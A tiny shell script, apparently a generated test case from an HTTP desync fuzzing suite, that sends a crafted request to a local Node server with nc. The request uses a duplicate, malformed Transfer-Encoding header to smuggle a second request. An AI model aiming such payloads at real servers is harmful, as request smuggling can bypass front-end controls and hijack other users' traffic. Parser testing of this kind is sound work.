#!/bin/sh
# desync/te-invalid/smuggled-request via byte.replace+stream.concatenate against node
printf 'POST /o HTTP/1.1\r\nHost: 127.0.0.1:58937\r\nTransfer-Encoding: nk\205d\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nPOST /\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
